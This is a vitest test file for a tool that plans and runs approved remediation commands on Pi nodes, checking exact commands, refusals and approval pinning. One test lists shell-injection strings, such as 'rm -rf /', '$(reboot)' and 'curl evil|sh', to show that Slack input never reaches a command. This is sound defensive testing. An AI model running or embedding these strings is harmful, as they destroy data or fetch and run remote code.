import { describe, expect, it } from 'vitest';
import type { LoadedConfig } from '../../src/config/load-config.js';
import { defaultCommands, titleFromActionId } from '../../src/config/schema.js';
import { type Authorization, decide, newApproval } from '../../src/domain/approval.js';
import type { ProposedAction } from '../../src/domain/classify.js';
import { applyApprovalEvent, MemoryApprovalStore } from '../../src/remediation/approval-store.js';
import { executePlan } from '../../src/remediation/execute.js';
import {
  type ActionPlan,
  commandsChanged,
  EACH_NODE_SERVICE,
  pinnedCommands,
  planAction,
  shortActionLabel,
  touchesVip,
} from '../../src/remediation/plan.js';
import { requestApproval } from '../../src/remediation/request-approval.js';
import { fixtureConfig } from './remediation-fixtures.js';

const FLUSH = defaultCommands.firewallFlush;

const config = fixtureConfig();

function plan(actionId: string, nodes: string[], cfg: LoadedConfig = config): ActionPlan {
  const r = planAction({ actionId, nodes }, cfg);
  if (!r.ok) throw new Error(r.reason);
  return r.plan;
}

const commandsOf = (p: ActionPlan) => pinnedCommands(p).map((c) => `${c.node}: ${c.command}`);

describe('planAction: exact commands from configuration', () => {
  it('restart-nginx on pi-a', () => {
    const p = plan('restart-nginx', ['pi-a']);
    expect(commandsOf(p)).toEqual(['pi-a: sudo systemctl restart nginx']);
    expect(p.label).toBe('restart nginx on pi-a');
    expect(p.details).toEqual(['sudo systemctl restart nginx on pi-a (10.86.0.20)']);
    expect(p).toMatchObject({
      requiredApprovals: 1,
      risk: 'medium',
      dryRun: false,
      verify: { checks: ['vip-http', 'service'], windowMs: 10_000 },
      notes: [],
    });
  });

  it('restart-keepalived on both Pis, one after the other', () => {
    const p = plan('restart-keepalived', ['pi-a', 'pi-b']);
    expect(commandsOf(p)).toEqual([
      'pi-a: sudo systemctl restart keepalived',
      'pi-b: sudo systemctl restart keepalived',
    ]);
    expect(p.sequential).toBe(true);
    expect(p.label).toBe('restart keepalived on pi-a then pi-b');
    expect(touchesVip(p)).toBe(true);
  });

  it('flush-redis: FLUSHDB on the configured Redis, two approvals', () => {
    const p = plan('flush-redis', ['pi-b']);
    expect(p.nodes[0]?.steps).toEqual([
      {
        kind: 'redis-flushdb',
        node: 'pi-b',
        command: 'FLUSHDB redis://10.86.0.19:6379/0',
        label: 'flush Redis',
        detail: 'FLUSHDB on Redis 10.86.0.19:6379 db 0',
      },
    ]);
    expect(p.label).toBe('flush Redis on pi-b');
    expect(p.requiredApprovals).toBe(2);
    expect(touchesVip(p)).toBe(false);
  });

  it('disable-chaos: flag first, then iptables -F, then only the services each node runs', () => {
    const a = plan('disable-chaos', ['pi-a']);
    expect(commandsOf(a)).toEqual([
      'pi-a: sudo rm -f /etc/okome/CHAOS_ENABLE',
      `pi-a: ${FLUSH}`,
      'pi-a: sudo systemctl restart nginx',
      'pi-a: sudo systemctl restart keepalived',
    ]);
    expect(a.notes).toEqual(['pi-a does not run redis-server: "restart redis-server" skipped there']);
    expect(a.label).toBe('remove the chaos flag, flush iptables, restart nginx and keepalived on pi-a');
    const b = plan('disable-chaos', ['pi-b']);
    expect(commandsOf(b)).toEqual([
      'pi-b: sudo rm -f /etc/okome/CHAOS_ENABLE',
      `pi-b: ${FLUSH}`,
      'pi-b: sudo systemctl restart nginx',
      'pi-b: sudo systemctl restart redis-server',
      'pi-b: sudo systemctl restart keepalived',
    ]);
    expect(b.notes).toEqual([]);
  });

  it('a restart of "*" expands into the services of each node, in their configured order', () => {
    const cfg: LoadedConfig = {
      ...config,
      actions: config.actions.map((a) =>
        a.id === 'disable-chaos'
          ? {
              ...a,
              steps: [
                { run: 'chaosFlagRemove' },
                { run: 'firewallFlush' },
                { run: 'serviceRestart', service: EACH_NODE_SERVICE },
              ],
            }
          : a,
      ),
    };
    const p = plan('disable-chaos', ['pi-a', 'pi-b'], cfg);
    expect(commandsOf(p).filter((c) => c.includes('systemctl'))).toEqual([
      'pi-a: sudo systemctl restart nginx',
      'pi-a: sudo systemctl restart keepalived',
      'pi-b: sudo systemctl restart redis-server',
      'pi-b: sudo systemctl restart nginx',
      'pi-b: sudo systemctl restart keepalived',
    ]);
    // Nodes that do different things: each its own phrase, every step said.
    expect(p.label).toBe(
      'remove the chaos flag, flush iptables, restart nginx and keepalived on pi-a; remove the chaos flag, flush iptables, restart redis-server, nginx and keepalived on pi-b',
    );
    expect(p.shortLabel).toBe('disable chaos, flush iptables, restart services on pi-a then pi-b');
  });

  it('uses per-node command overrides', () => {
    const cfg = fixtureConfig((c) => {
      const node = c.nodes[0];
      if (node) node.commands = { serviceRestart: 'sudo /bin/systemctl --no-block restart {service}' };
    });
    expect(commandsOf(plan('restart-nginx', ['pi-a'], cfg))).toEqual([
      'pi-a: sudo /bin/systemctl --no-block restart nginx',
    ]);
  });

  it('never restarts both VIP holders at once, even when the action says parallel', () => {
    const cfg: LoadedConfig = {
      ...config,
      actions: config.actions.map((a) => (a.id === 'restart-keepalived' ? { ...a, sequential: false } : a)),
    };
    const p = plan('restart-keepalived', ['pi-a', 'pi-b'], cfg);
    expect(p.sequential).toBe(true);
    expect(p.notes[0]).toMatch(/both hold the VIP/);
  });
});

describe('planAction: refusals', () => {
  const cases: ReadonlyArray<readonly [string, ProposedAction, RegExp, LoadedConfig?]> = [
    ['unknown action', { actionId: 'reboot-everything', nodes: ['pi-a'] }, /no action "reboot-everything"/],
    ['no node', { actionId: 'restart-nginx', nodes: [] }, /no target node/],
    ['unknown node', { actionId: 'restart-nginx', nodes: ['pi-z'] }, /"pi-z" is not a configured node/],
    ['node twice', { actionId: 'restart-nginx', nodes: ['pi-a', 'pi-a'] }, /named twice/],
    [
      'node outside the targets',
      { actionId: 'restart-nginx', nodes: ['pi-b'] },
      /restart-nginx may not run on pi-b: its targets are roles frontend/,
    ],
    [
      'service the node does not run',
      { actionId: 'restart-redis', nodes: ['pi-a'] },
      /nothing to run on pi-a: pi-a does not run redis-server/,
      fixtureConfig((c) => {
        const a = c.actions?.find((x) => x.id === 'restart-redis');
        if (a) a.targets = { nodes: ['pi-a', 'pi-b'] };
      }),
    ],
  ];
  for (const [name, proposed, reason, cfg] of cases) {
    it(name, () => {
      expect(planAction(proposed, cfg ?? config)).toEqual({
        ok: false,
        reason: expect.stringMatching(reason),
      });
    });
  }
});

describe('pinned commands', () => {
  it('commandsChanged: undefined when the same, a reason when the configuration moved', () => {
    const p = plan('restart-nginx', ['pi-a']);
    expect(commandsChanged(pinnedCommands(p), p)).toBeUndefined();
    const changed = fixtureConfig((c) => {
      c.commands = { serviceRestart: 'sudo systemctl try-restart {service}' };
    });
    expect(commandsChanged(pinnedCommands(p), plan('restart-nginx', ['pi-a'], changed))).toMatch(
      /approved \[pi-a: sudo systemctl restart nginx\], now \[pi-a: sudo systemctl try-restart nginx\]/,
    );
  });
});

describe('requestApproval', () => {
  it('pins targets and commands, with a fresh id and the configured TTL', () => {
    const p = plan('restart-keepalived', ['pi-a', 'pi-b']);
    const a = requestApproval(p, {
      incidentId: 4,
      requester: 'bot',
      now: 1000,
      ttlMs: config.slack.approvalTtlMs,
    });
    expect(a).toMatchObject({
      id: expect.stringMatching(/^ap_[a-z2-7]{20}$/),
      incidentId: 4,
      actionId: 'restart-keepalived',
      targets: ['pi-a', 'pi-b'],
      commands: [
        { node: 'pi-a', command: 'sudo systemctl restart keepalived' },
        { node: 'pi-b', command: 'sudo systemctl restart keepalived' },
      ],
      requiredApprovals: 1,
      state: 'pending',
      expiresAt: 1000 + 900_000,
      version: 0,
    });
  });
});

describe('Slack text never reaches a command', () => {
  const HOSTILE = [
    '; rm -rf / #',
    '$(reboot)',
    '`id`',
    'nginx && curl evil|sh',
    "pi-a' ; shutdown -h now '",
    'pi-a\nsudo reboot',
    '|| true',
    '> /etc/passwd',
    '*',
    '../../etc',
  ];

  it('the plan takes only an action id and node names: hostile ones are refused, not embedded', () => {
    for (const h of HOSTILE) {
      for (const proposed of [
        { actionId: 'restart-nginx', nodes: [h] },
        { actionId: h, nodes: ['pi-a'] },
        { actionId: 'restart-nginx', nodes: ['pi-a', h] },
      ]) {
        const r = planAction(proposed, config);
        expect(r.ok).toBe(false);
      }
    }
  });

  it('hostile user names and click values flow through approval and execution; the commands run are the configured ones', async () => {
    const p = plan('disable-chaos', ['pi-b']);
    const store = new MemoryApprovalStore();
    await store.insertApproval(
      newApproval({
        id: 'ap_bbbbbbbbbbbbbbbbbbbb',
        incidentId: 1,
        actionId: p.actionId,
        targets: p.nodes.map((n) => n.node),
        commands: pinnedCommands(p),
        requiredApprovals: p.requiredApprovals,
        requester: HOSTILE[0] ?? '',
        now: 0,
        ttlMs: 60_000,
      }),
    );
    const allowed: Authorization = { allowed: true, via: 'user', note: HOSTILE[1] ?? '' };
    for (const user of HOSTILE) {
      await applyApprovalEvent(
        store,
        'ap_bbbbbbbbbbbbbbbbbbbb',
        { kind: 'click-approve', user, authorization: allowed },
        1,
      );
    }
    const approved = await store.approvalById('ap_bbbbbbbbbbbbbbbbbbbb');
    if (approved === undefined) throw new Error('lost');
    expect(approved.state).toBe('approved');
    expect(approved.commands).toEqual(pinnedCommands(p));
    // A later hostile click changes nothing either.
    expect(decide(approved, { kind: 'click-reject', user: '$(id)', authorization: allowed }, 2).changed).toBe(
      false,
    );

    const sent: string[] = [];
    const report = await executePlan(p, {
      shell: {
        exec: async (node, command) => {
          sent.push(`${node}: ${command}`);
          return { exitCode: 0, signal: undefined, stdout: '', stderr: '', durationMs: 1, truncated: false };
        },
      },
      redis: { flushdb: async () => {} },
      verify: async () => ({ ok: true, details: 'ok' }),
      now: () => 0,
      sleep: async () => {},
      stepTimeoutMs: 1000,
      redisTimeoutMs: 1000,
    });
    expect(report.ok).toBe(true);
    expect(sent).toEqual([
      'pi-b: sudo rm -f /etc/okome/CHAOS_ENABLE',
      `pi-b: ${FLUSH}`,
      'pi-b: sudo systemctl restart nginx',
      'pi-b: sudo systemctl restart redis-server',
      'pi-b: sudo systemctl restart keepalived',
    ]);
    expect(sent.join('\n')).not.toMatch(/rm -rf|reboot|\$\(|`|curl|shutdown|passwd/);
  });
});

describe('short labels for buttons', () => {
  it('title and nodes, then "N nodes", then the title alone: never clipped', () => {
    expect(shortActionLabel('Disable chaos', ['pi-a'])).toBe('disable chaos on pi-a');
    expect(shortActionLabel('Restart keepalived', ['pi-a', 'pi-b'], true)).toBe(
      'restart keepalived on pi-a then pi-b',
    );
    expect(shortActionLabel('FLUSHDB', ['pi-b'])).toBe('FLUSHDB on pi-b');
    const long = ['a'.repeat(30), 'b'.repeat(30)];
    expect(shortActionLabel('Disable chaos', long)).toBe('disable chaos on 2 nodes');
    const title = 'T'.repeat(60);
    expect(shortActionLabel(title, long)).toBe(title);
  });

  it('an action without a title is named after its id', () => {
    expect(titleFromActionId('disable-chaos')).toBe('Disable chaos');
    const config = fixtureConfig((c) => {
      const action = c.actions?.find((a) => a.id === 'disable-chaos');
      if (action !== undefined) delete action.title;
    });
    expect(config.actions.find((a) => a.id === 'disable-chaos')?.title).toBe('Disable chaos');
  });
});
